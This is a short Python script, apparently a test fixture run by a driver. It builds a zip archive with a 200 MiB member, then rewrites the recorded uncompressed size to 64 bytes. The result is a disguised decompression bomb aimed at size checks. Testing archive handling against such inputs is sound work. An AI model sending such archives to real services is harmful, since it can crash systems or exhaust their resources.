"""Makes the submission; run by the driver."""

import zipfile
from pathlib import Path


def build(folder: Path) -> Path:
    path = folder / "attack.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("rt_exp.py", "w") as member:
            for _ in range(200):
                member.write(b"#" * (1 << 20))
    content = path.read_bytes()
    path.write_bytes(content.replace((200 << 20).to_bytes(4, "little"), b"\x40\0\0\0"))
    return path
